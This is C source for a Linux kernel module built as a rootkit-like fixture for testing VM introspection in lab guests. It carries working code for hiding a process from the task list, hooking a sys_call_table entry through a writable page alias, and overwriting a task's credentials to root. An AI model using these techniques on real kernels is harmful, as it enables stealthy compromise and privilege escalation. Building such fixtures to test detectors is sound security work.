// SPDX-License-Identifier: GPL-2.0
/*
 * imee_attack: a rootkit-like module for the lab's L2 targets, so that
 * imee's tests can check that introspection from the host sees what an
 * attacker changed inside a guest. It is packed into every target's
 * initramfs as /attack/imee_attack.ko and loaded only by a test; it is not
 * meant for, and must never be loaded into, any other kernel.
 *
 * Every parameter is optional; each names one attack. Addresses come from
 * the guest's own /proc/kallsyms (kallsyms_lookup_name() is not exported)
 * and are checked against kallsyms before use.
 *
 *   hide_pid=N tasklist_lock=ADDR
 *	Unlink process N (its thread-group leader) from the task list
 *	(init_task.tasks, what for_each_process() walks), under tasklist_lock
 *	(not exported: ADDR is its address). It stays in the pid hash (the
 *	IDR), so /proc, ps and a walk of the pids still see it: the
 *	discrepancy a detector looks for. While hidden, the process has
 *	SIGNAL_UNKILLABLE set (signals with the default action cannot kill
 *	it, as for init) and this module holds a reference on it. It must not
 *	exit by itself while hidden; should it do so anyway more than an RCU
 *	grace period after it was hidden, that is harmless: its list node is
 *	then linked to itself, so exit's list_del_rcu() finds it consistent.
 *	Unloading links it back (before init_task, as fork adds processes)
 *	and clears SIGNAL_UNKILLABLE if this module set it.
 *
 *   syscall_table=ADDR syscall_nr=N
 *	Replace entry N of sys_call_table (at ADDR) with a function of this
 *	module that calls the original handler. The table is read-only: the
 *	entry is written through a temporary writable alias of its page (a
 *	vmap() of the same physical page). Unloading restores the entry.
 *	Debian's 6.1 kernels dispatch system calls through x64_sys_call()'s
 *	switch, not through this table, so the replacement is never called
 *	by a system call; the table is still what introspection checks (and
 *	what older kernels dispatch through).
 *
 *   cred_pid=N
 *	Make task N root: write uid, euid, suid, fsuid, the gids and the
 *	permitted and effective capabilities of its (objective) credentials
 *	in place. This is an attack: credentials are meant to be immutable
 *	once committed, and every task sharing that struct cred is raised
 *	with it. Unloading writes the old values back.
 *
 * What was done, or why not, goes to the kernel log ("imee_attack: ...").
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/capability.h>
#include <linux/cred.h>
#include <linux/kallsyms.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/pgtable_types.h>
#include <asm/syscall.h>
#include <asm/unistd.h>

#include "syscall_alias.h"

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "process to unlink from the task list (needs tasklist_lock)");

static unsigned long tasklist_lock_addr;
module_param_named(tasklist_lock, tasklist_lock_addr, ulong, 0444);
MODULE_PARM_DESC(tasklist_lock, "address of tasklist_lock, from /proc/kallsyms");

static unsigned long syscall_table;
module_param(syscall_table, ulong, 0444);
MODULE_PARM_DESC(syscall_table, "address of sys_call_table, from /proc/kallsyms");

static int syscall_nr = -1;
module_param(syscall_nr, int, 0444);
MODULE_PARM_DESC(syscall_nr, "system call whose table entry to replace");

static int cred_pid;
module_param(cred_pid, int, 0444);
MODULE_PARM_DESC(cred_pid, "task whose credentials to raise to root");

/* hide_pid */
static rwlock_t *tasklist;
static struct task_struct *hidden;
static bool set_unkillable;

/* syscall_table */
static sys_call_ptr_t *hooked_entry;
static sys_call_ptr_t original_handler;

/* cred_pid */
static struct cred *raised;
static struct cred saved_ids; /* only the fields written are used */

/* Is addr exactly the start of the kernel symbol name? */
static bool symbol_is(unsigned long addr, const char *name)
{
	char buf[KSYM_SYMBOL_LEN];
	size_t n = strlen(name);

	if (!addr)
		return false;
	sprint_symbol(buf, addr);
	return !strncmp(buf, name, n) && !strncmp(buf + n, "+0x0/", 5);
}

/* The task with this pid, with a reference; NULL if there is none. */
static struct task_struct *task_of(int nr, enum pid_type type)
{
	struct task_struct *task;
	struct pid *pid;

	if (nr <= 0)
		return NULL;
	pid = find_get_pid(nr);
	if (!pid)
		return NULL;
	task = get_pid_task(pid, type);
	put_pid(pid);
	return task;
}

/* -- hide_pid --------------------------------------------------------- */

static int hide_task(void)
{
	struct task_struct *task;

	if (!symbol_is(tasklist_lock_addr, "tasklist_lock")) {
		pr_err("hide_pid=%d: tasklist_lock=0x%lx is not tasklist_lock\n",
		       hide_pid, tasklist_lock_addr);
		return -EINVAL;
	}
	tasklist = (rwlock_t *)tasklist_lock_addr;

	/* PIDTYPE_TGID: the leader of the thread group hide_pid names. */
	task = task_of(hide_pid, PIDTYPE_TGID);
	if (!task) {
		pr_err("hide_pid=%d: no such process\n", hide_pid);
		return -ESRCH;
	}
	if (task->pid == 1 || (task->flags & PF_KTHREAD) || same_thread_group(task, current)) {
		pr_err("hide_pid=%d: refusing to hide %s\n", hide_pid, task->comm);
		put_task_struct(task);
		return -EPERM;
	}

	write_lock_irq(tasklist);
	/* release_task() unlinks a dead task under this lock: not yet. */
	if (!pid_alive(task) || task->exit_state || (task->flags & PF_EXITING)) {
		write_unlock_irq(tasklist);
		pr_err("hide_pid=%d: the process is exiting\n", hide_pid);
		put_task_struct(task);
		return -ESRCH;
	}
	spin_lock(&task->sighand->siglock);
	set_unkillable = !(task->signal->flags & SIGNAL_UNKILLABLE);
	task->signal->flags |= SIGNAL_UNKILLABLE;
	spin_unlock(&task->sighand->siglock);
	/* Readers under RCU may stand on it: its next pointer stays valid. */
	list_del_rcu(&task->tasks);
	write_unlock_irq(tasklist);

	/*
	 * Once no reader can be on the node any more, link it to itself: the
	 * list_del_rcu() of an exit (should the process exit while hidden,
	 * which it must not) then finds a consistent node, not LIST_POISON2.
	 */
	synchronize_rcu();
	write_lock_irq(tasklist);
	if (pid_alive(task))
		INIT_LIST_HEAD(&task->tasks);
	write_unlock_irq(tasklist);

	hidden = task;
	pr_info("hid pid %d (%s) from the task list; it stays in the pid hash\n",
		task->pid, task->comm);
	return 0;
}

static void unhide_task(void)
{
	struct task_struct *task = hidden;
	bool relinked = false;

	if (!task)
		return;
	write_lock_irq(tasklist);
	if (pid_alive(task)) {
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
		relinked = true;
		if (set_unkillable) {
			spin_lock(&task->sighand->siglock);
			task->signal->flags &= ~SIGNAL_UNKILLABLE;
			spin_unlock(&task->sighand->siglock);
		}
	}
	write_unlock_irq(tasklist);
	if (relinked)
		pr_info("pid %d (%s) is back in the task list\n", task->pid, task->comm);
	else
		pr_info("pid %d (%s) exited while hidden\n", task->pid, task->comm);
	put_task_struct(task);
	hidden = NULL;
}

/* -- syscall_table ---------------------------------------------------- */

/*
 * What the table's entry points at while the module is loaded: a handler
 * of the module's own, calling the original one. Debian's 6.1 kernels
 * never call it (x64_sys_call() dispatches by a switch).
 */
static long imee_attack_syscall(const struct pt_regs *regs)
{
	return READ_ONCE(original_handler)(regs);
}

static int hook_syscall(void)
{
	sys_call_ptr_t *entry;
	int err;

	if (!symbol_is(syscall_table, "sys_call_table")) {
		pr_err("syscall_table=0x%lx is not sys_call_table\n", syscall_table);
		return -EINVAL;
	}
	if (syscall_nr < 0 || syscall_nr >= NR_syscalls) {
		pr_err("syscall_nr=%d: not in 0..%d\n", syscall_nr, NR_syscalls - 1);
		return -EINVAL;
	}
	entry = (sys_call_ptr_t *)syscall_table + syscall_nr;
	original_handler = READ_ONCE(*entry);
	err = imee_lab_write_syscall_entry(entry, imee_attack_syscall);
	if (err) {
		pr_err("cannot map sys_call_table writable: %d\n", err);
		return err;
	}
	hooked_entry = entry;
	pr_info("sys_call_table[%d]: %ps replaced by %pS\n",
		syscall_nr, original_handler, imee_attack_syscall);
	return 0;
}

static void unhook_syscall(void)
{
	if (!hooked_entry)
		return;
	if (imee_lab_write_syscall_entry(hooked_entry, original_handler))
		pr_err("sys_call_table[%d] could not be restored\n", syscall_nr);
	else
		pr_info("sys_call_table[%d] restored to %ps\n", syscall_nr, original_handler);
	hooked_entry = NULL;
}

/* -- cred_pid --------------------------------------------------------- */

static int raise_cred(void)
{
	struct task_struct *task = task_of(cred_pid, PIDTYPE_PID);
	struct cred *cred;

	if (!task) {
		pr_err("cred_pid=%d: no such task\n", cred_pid);
		return -ESRCH;
	}
	/* An attack: credentials are to be replaced (commit_creds()), not written. */
	cred = (struct cred *)get_task_cred(task);
	saved_ids.uid = cred->uid;
	saved_ids.euid = cred->euid;
	saved_ids.suid = cred->suid;
	saved_ids.fsuid = cred->fsuid;
	saved_ids.gid = cred->gid;
	saved_ids.egid = cred->egid;
	saved_ids.sgid = cred->sgid;
	saved_ids.fsgid = cred->fsgid;
	saved_ids.cap_permitted = cred->cap_permitted;
	saved_ids.cap_effective = cred->cap_effective;

	cred->uid = GLOBAL_ROOT_UID;
	cred->euid = GLOBAL_ROOT_UID;
	cred->suid = GLOBAL_ROOT_UID;
	cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = GLOBAL_ROOT_GID;
	cred->egid = GLOBAL_ROOT_GID;
	cred->sgid = GLOBAL_ROOT_GID;
	cred->fsgid = GLOBAL_ROOT_GID;
	cred->cap_permitted = cred->cap_bset;
	cred->cap_effective = cred->cap_bset;
	raised = cred;
	pr_info("pid %d (%s): credentials raised from uid %u to root in place\n",
		task->pid, task->comm, from_kuid(&init_user_ns, saved_ids.uid));
	put_task_struct(task);
	return 0;
}

static void restore_cred(void)
{
	struct cred *cred = raised;

	if (!cred)
		return;
	cred->uid = saved_ids.uid;
	cred->euid = saved_ids.euid;
	cred->suid = saved_ids.suid;
	cred->fsuid = saved_ids.fsuid;
	cred->gid = saved_ids.gid;
	cred->egid = saved_ids.egid;
	cred->sgid = saved_ids.sgid;
	cred->fsgid = saved_ids.fsgid;
	cred->cap_permitted = saved_ids.cap_permitted;
	cred->cap_effective = saved_ids.cap_effective;
	pr_info("credentials of cred_pid=%d restored to uid %u\n", cred_pid,
		from_kuid(&init_user_ns, saved_ids.uid));
	put_cred(cred);
	raised = NULL;
}

/* -- load and unload -------------------------------------------------- */

static void undo_all(void)
{
	restore_cred();
	unhook_syscall();
	unhide_task();
}

static int __init imee_attack_init(void)
{
	int err = 0;

	if (hide_pid)
		err = hide_task();
	if (!err && syscall_table)
		err = hook_syscall();
	if (!err && cred_pid)
		err = raise_cred();
	if (err) {
		undo_all();
		return err;
	}
	if (!hide_pid && !syscall_table && !cred_pid)
		pr_info("loaded with no attack\n");
	return 0;
}

static void __exit imee_attack_exit(void)
{
	undo_all();
	pr_info("unloaded\n");
}

module_init(imee_attack_init);
module_exit(imee_attack_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("imee lab: attacks on a guest kernel, for introspection tests");
